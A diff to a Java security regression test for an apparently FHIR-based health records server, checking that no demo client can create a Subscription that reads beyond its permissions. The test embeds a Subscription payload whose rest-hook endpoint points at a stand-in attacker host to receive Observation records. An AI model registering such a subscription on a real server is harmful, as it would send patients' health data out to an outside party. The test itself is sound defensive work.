@@ -110,22 +110,23 @@ class KnownFlawsStoryTest {
                 .asInt();
     }
 
-    /** Subscriptions that read more than their creator may. There are none. */
+    /** Subscriptions that read more than their creator may: a search of the record is none that one can subscribe to. */
     @EachDatabase
-    void cve2026x113875NobodySubscribes(Database database) {
+    void cve2026x113875NobodySubscribesToASearchOfTheRecord(Database database) {
         var server = Server.on(database);
         var subscription =
                 """
                 {"resourceType":"Subscription","status":"requested","reason":"x","criteria":"Observation?",
                  "channel":{"type":"rest-hook","endpoint":"https://attacker.example.org/"}}""";
         for (var client : List.of("demo-clinic", "demo-ehr", "demo-insurer", "demo-admin")) {
-            var answer = server.as(client).post("/Subscription", subscription);
-            assertThat(answer.status()).as(client).isIn(403, 404);
-            assertThat(server.as(client).get("/Subscription").status())
-                    .as(client)
-                    .isIn(403, 404);
+            server.as(client).post("/Subscription", subscription).expect(403);
         }
-        assertThat(server.as("demo-clinic").get("/metadata").text()).doesNotContain("\"type\":\"Subscription\"");
+        server.as("demo-ehr")
+                .post(
+                        "/Subscription",
+                        subscription.replace(
+                                "Observation?", "http://hl7.org/fhir/us/davinci-hrex/SubscriptionTopic/Task"))
+                .expect(422);
     }
 
     /** A conditional create that answers with the resource it has found, whether its sender may read it or not. */
